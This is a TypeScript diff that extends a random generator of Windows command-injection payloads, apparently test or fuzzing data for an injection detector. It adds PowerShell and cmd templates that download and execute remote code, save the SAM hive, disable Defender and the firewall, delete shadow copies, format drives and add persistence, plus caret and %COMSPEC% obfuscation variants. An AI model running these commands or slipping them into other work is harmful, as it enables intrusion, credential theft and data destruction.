@@ -10,8 +10,12 @@ export function windowsInjection(random: Random): string {
     () => command,
     () => mixCase(random, command),
     (r) => command.replace(/^[a-z]+/i, (word) => insertPiece(r, word, r.pick(["^", '""', "^"]))),
-    () => command.replaceAll(" ", "%20"),
+    () => command.replaceAll(" ", random.pick(["%20", "+", "%09", ",", ";", "  "])),
+    () => command.replace(/^[a-z]+/i, (word) => word.split("").join("^")),
+    () => command.replace(/^cmd/, "%COMSPEC%"),
+    () => `set x=${command}&&call %x%`,
   ])
+  if (random.chance(0.08) && disguised.includes(" ")) return disguised
   const joint = random.pick([
     "&",
     "&&",
@@ -27,7 +31,7 @@ export function windowsInjection(random: Random): string {
     ";",
     "%0a",
   ])
-  return `${hostValue(random)}${random.pick(["", "", '"', "'"])}${joint}${disguised}${random.pick(["", "", "&", " &", "|", "'", '"'])}`
+  return `${hostValue(random)}${random.pick(["", "", "", '"', "'", '")', "%"])}${joint}${disguised}${random.pick(["", "", "&", " &", "|", "'", '"'])}`
 }
 
 const POWERSHELL: Grammar = (r) =>
@@ -41,7 +45,82 @@ const POWERSHELL: Grammar = (r) =>
     ],
   )}`
 
+/** Commands of PowerShell by their names and aliases, as a pipeline or alone. */
+const CMDLET: Grammar = (r) => {
+  const file = windowsFile(r)
+  const host = hostName(r)
+  return r.pick([
+    "Get-Process",
+    "Get-Service",
+    "gci env:",
+    "gps | select name",
+    `Get-Content ${file}`,
+    `gc ${file}`,
+    `Get-ChildItem ${r.pick(["C:\\", "C:\\Users -Recurse", "Env:"])}`,
+    `Invoke-Expression "${r.pick(["whoami", "dir", "ipconfig"])}"`,
+    `IEX (New-Object Net.WebClient).DownloadString('http://${host}/${identifier(r)}')`,
+    `iex(iwr http://${host}/${identifier(r)}.ps1 -UseBasicParsing)`,
+    `iwr ${host}/${identifier(r)} -OutFile $env:TEMP\\${identifier(r)}.exe`,
+    `Start-Process ${r.pick(["calc", "notepad", "cmd"])}`,
+    `Start-Sleep ${r.pick(["", "-s ", "-Seconds "])}${r.between(1, 30)}`,
+    `(Get-WmiObject Win32_OperatingSystem).${r.pick(["Caption", "Version"])}`,
+    `[System.Net.Dns]::GetHostName()`,
+    `[Diagnostics.Process]::Start('${r.pick(["calc", "cmd"])}')`,
+    `Resolve-DnsName ${identifier(r)}.${host}`,
+    `Test-Connection ${host}`,
+    `Remove-Item -Recurse -Force ${r.pick(["C:\\*", file])}`,
+    `Set-MpPreference -DisableRealtimeMonitoring $true`,
+    `New-LocalUser ${identifier(r)}`,
+    `$c=New-Object Net.Sockets.TCPClient('${host}',${r.between(1, 9999)})`,
+  ])
+}
+
+/** Programs of every Windows that fetch, run, schedule or destroy, from Microsoft's reference. */
+const WINDOWS_TOOL: Grammar = (r) => {
+  const [name, host] = [identifier(r), hostName(r)]
+  return r.pick([
+    `for /f %i in ('${r.pick(["whoami", "hostname", "ver"])}') do nslookup %i.${host}`,
+    `for /L %n in (1,1,${r.between(2, 99)}) do ping ${host}`,
+    `forfiles /c "cmd /c ${r.pick(["dir", "whoami", "calc"])}"`,
+    `wmic ${r.pick(["os get caption", "useraccount list", "process call create calc", "qfe list"])}`,
+    `schtasks /create /tn ${name} /tr ${name}.exe /sc ${r.pick(["minute", "onlogon", "daily"])}`,
+    `reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v ${name} /d ${name}.exe`,
+    `reg save HKLM\\SAM ${name}`,
+    `net localgroup administrators ${name} /add`,
+    `net ${r.pick(["view", "share", "start", "accounts", "group /domain", "session"])}`,
+    `netsh ${r.pick(["firewall set opmode disable", "advfirewall set allprofiles state off", "wlan show profiles"])}`,
+    `sc ${r.pick(["query", `stop ${name}`, `create ${name} binPath= ${name}.exe`])}`,
+    `tasklist ${r.pick(["/svc", "/v", "/m"])}`,
+    `taskkill /f /im ${name}.exe`,
+    `vssadmin delete shadows /all /quiet`,
+    `icacls ${windowsFile(r)} /grant everyone:F`,
+    `attrib +h ${name}.exe`,
+    `findstr /si password *.${r.pick(["xml", "ini", "txt", "config"])}`,
+    `more < ${windowsFile(r)}`,
+    `copy ${windowsFile(r)} ${r.pick(["c:\\inetpub\\wwwroot\\", "\\\\"])}${name}.txt`,
+    `rundll32 ${r.pick(["url.dll,OpenURL calc.exe", 'javascript:"\\..\\mshtml,RunHTMLApplication"', `\\\\${host}\\${name}.dll,0`])}`,
+    `cscript //nologo ${name}.vbs`,
+    `msiexec /q /i http://${host}/${name}.msi`,
+    `curl http://${host}/${name}.exe -o %TEMP%\\${name}.exe`,
+    `shutdown /${r.pick(["s", "r"])} /t ${r.below(60)}`,
+    `format ${r.pick(["c:", "d:"])} /q`,
+    `rd /s /q c:\\${name}`,
+    `echo ${name}>${name}.${r.pick(["html", "txt", "asp"])}`,
+    `type %${r.pick(["SYSTEMROOT", "WINDIR"])}%\\win.ini`,
+    `dir %${r.pick(["USERPROFILE", "TEMP", "PROGRAMFILES"])}%`,
+    `cd`,
+    `${r.pick(["ver", "dir", "vol", "set", "path", "getmac", "whoami", "hostname", "tree"])}`,
+  ])
+}
+
 const WINDOWS_COMMANDS: readonly Grammar[] = [
+  CMDLET,
+  CMDLET,
+  CMDLET,
+  WINDOWS_TOOL,
+  WINDOWS_TOOL,
+  WINDOWS_TOOL,
+  WINDOWS_TOOL,
   (r) => `dir${r.pick(["", " c:\\", " /s", " C:\\Users", " c:\\inetpub"])}`,
   (r) => `type ${windowsFile(r)}`,
   (r) => `ping -n ${r.between(1, 30)} ${r.pick(["127.0.0.1", ipAddress(r), hostName(r)])}`,
